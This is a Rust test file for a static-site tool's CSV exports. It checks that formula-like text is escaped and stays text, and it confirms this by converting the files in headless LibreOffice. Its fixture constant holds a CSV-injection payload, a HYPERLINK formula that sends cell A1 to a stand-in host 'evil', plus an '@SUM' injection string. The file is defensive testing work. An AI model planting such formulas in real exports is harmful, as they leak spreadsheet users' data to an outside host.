//! The CSV exports are safe to open in a spreadsheet: formula-like text stays text, real
//! figures (a negative 本年增/减) stay numbers. Checked in LibreOffice headless (Debian
//! package `libreoffice-calc-nogui`): without it the spreadsheet half skips loudly; under
//! CI (`CI=true`) a missing LibreOffice fails.

use std::path::{Path, PathBuf};
use std::process::Command;

use crate::browser::missing;
use crate::site::copy_dir;
use crate::support::{fixture, ogi_in};

/// The body name of the fixture: a formula that would send the sheet's cells away.
const FORMULA: &str = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";

/// One CSV field: its text, and whether it was quoted.
type Field = (String, bool);

/// Splits CSV text into rows of fields (RFC 4180 quoting), without a leading BOM.
fn parse(text: &str) -> Vec<Vec<Field>> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut rows = Vec::new();
    let (mut row, mut field, mut quoted, mut in_quotes) = (Vec::new(), String::new(), false, false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, in_quotes) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            ('"', true) => in_quotes = false,
            ('"', false) if field.is_empty() => (in_quotes, quoted) = (true, true),
            (',', false) => row.push((std::mem::take(&mut field), std::mem::take(&mut quoted))),
            ('\n', false) => {
                row.push((std::mem::take(&mut field), std::mem::take(&mut quoted)));
                rows.push(std::mem::take(&mut row));
            }
            (c, _) => field.push(c),
        }
    }
    rows
}

/// Builds the fixture project as a user would (`ogi build` in its folder) and returns the
/// folder and its CSV files: `data/table3.csv` and the report's `report.csv`.
fn build() -> (tempfile::TempDir, Vec<PathBuf>) {
    let dir = tempfile::tempdir().expect("temp dir");
    copy_dir(&fixture("csv-injection"), dir.path());
    let run = ogi_in(Some(dir.path()), &["build"]);
    assert_eq!(run.code, Some(0), "{run:?}");
    let site = dir.path().join("site");
    let files = vec![
        site.join("data/table3.csv"),
        site.join("reports/evil/2020/report.csv"),
    ];
    (dir, files)
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

#[test]
fn formula_like_text_is_written_as_text_and_figures_as_numbers() {
    let (_dir, files) = build();
    let table3 = parse(&read(&files[0]));
    assert!(table3.len() > 20, "{table3:?}");
    for row in &table3[1..] {
        assert_eq!(row[0], (format!("'{FORMULA}"), true));
        assert_eq!(row[1], ("'@SUM(1+1)/+1+1/-2+3".to_owned(), true));
    }
    let report = parse(&read(&files[1]));
    let change = report
        .iter()
        .find(|r| r[0].0 == "table2.licensing[1]")
        .expect("the 本年增/减 cell");
    assert_eq!(
        change[2],
        ("-2".to_owned(), false),
        "a figure stays a bare number"
    );
}

/// The soffice binary, or `None` (after saying so) when LibreOffice is missing outside CI.
fn soffice() -> Option<PathBuf> {
    let found = ["/usr/bin/soffice", "/usr/bin/libreoffice"]
        .iter()
        .map(PathBuf::from)
        .find(|p| p.is_file());
    if found.is_none() {
        missing("LibreOffice", "libreoffice-calc-nogui");
    }
    found
}

#[test]
fn libreoffice_evaluates_no_formula_in_the_exports() {
    let Some(soffice) = soffice() else { return };
    let (dir, files) = build();
    let out = dir.path().join("converted");
    // Read as UTF-8 CSV; write back every cell as shown, quoting text cells, so a number
    // and a text are told apart.
    let run = Command::new(soffice)
        .arg(format!(
            "-env:UserInstallation=file://{}",
            dir.path().join("profile").display()
        ))
        .args(["--headless", "--infilter=CSV:44,34,76,1"])
        .args([
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true",
        ])
        .arg("--outdir")
        .arg(&out)
        .args(&files)
        .output()
        .expect("run soffice");
    assert!(run.status.success(), "{run:?}");
    for file in &files {
        let name = file.file_name().expect("a file");
        let written = parse(&read(file));
        let shown = parse(&read(&out.join(name)));
        assert_eq!(written.len(), shown.len(), "{}", file.display());
        for (w, s) in written.iter().zip(&shown) {
            for (w, s) in w.iter().zip(s) {
                // A bare number is read as that number, a bare true/false (the `flagged`
                // column) as that truth value; everything else stays text, and shows
                // exactly the text written: no formula ran.
                if !w.1 && matches!(w.0.as_str(), "true" | "false") {
                    assert_eq!(
                        (s.0.to_lowercase(), s.1),
                        (w.0.clone(), false),
                        "{}: {w:?} became {s:?}",
                        file.display()
                    );
                    continue;
                }
                match w.0.parse::<f64>().ok().filter(|_| !w.1) {
                    Some(n) => assert_eq!(
                        (s.0.parse::<f64>().ok(), s.1),
                        (Some(n), false),
                        "{}: {w:?} became {s:?}",
                        file.display()
                    ),
                    None => assert_eq!(
                        (&w.0, !w.0.is_empty()),
                        (&s.0, s.1),
                        "{}: {w:?} became {s:?}",
                        file.display()
                    ),
                }
            }
        }
    }
    let shown = read(&out.join("report.csv"));
    // The real negative figure stays a bare number (followed by the flagged column).
    assert!(shown.contains("本年增/减\",-2,"), "{shown}");
}
